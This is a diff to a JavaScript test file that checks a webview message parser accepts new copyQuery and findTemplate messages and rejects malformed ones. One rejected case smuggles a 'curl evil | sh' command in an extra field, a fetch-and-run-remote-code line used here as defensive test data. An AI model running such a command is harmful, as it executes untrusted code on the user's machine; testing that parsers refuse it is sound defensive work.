@@ -7,6 +7,8 @@ test('valid webview messages pass', () => {
   assert.deepEqual(parseWebviewMessage({ type: 'openCode', evidenceId: 'E1', index: 0 }), { ok: true, message: { type: 'openCode', evidenceId: 'E1', index: 0 } });
   assert.equal(parseWebviewMessage({ type: 'openCommit', sha: 'abc1234' }).ok, true);
   assert.equal(parseWebviewMessage({ type: 'applyRemediation', remediationId: 'R1' }).ok, true);
+  assert.equal(parseWebviewMessage({ type: 'copyQuery', queryId: 'Q7' }).ok, true);
+  assert.equal(parseWebviewMessage({ type: 'findTemplate', evidenceId: 'E2', index: 0 }).ok, true);
 });
 
 test('invalid messages are rejected with a reason', () => {
@@ -20,6 +22,11 @@ test('invalid messages are rejected with a reason', () => {
     { type: 'applyRemediation', remediationId: '' },
     // No pre-approval can ride along: unknown keys are refused.
     { type: 'applyRemediation', remediationId: 'R1', decision: 'approved' },
+    // A command line cannot ride along with a query id either.
+    { type: 'copyQuery', queryId: 'Q1', command: 'curl evil | sh' },
+    { type: 'copyQuery', queryId: '' },
+    { type: 'findTemplate', evidenceId: 'E2', index: -3 },
+    { type: 'findTemplate', evidenceId: 'E2', template: 'grep this' },
   ]) {
     const parsed = parseWebviewMessage(raw);
     assert.equal(parsed.ok, false, JSON.stringify(raw));
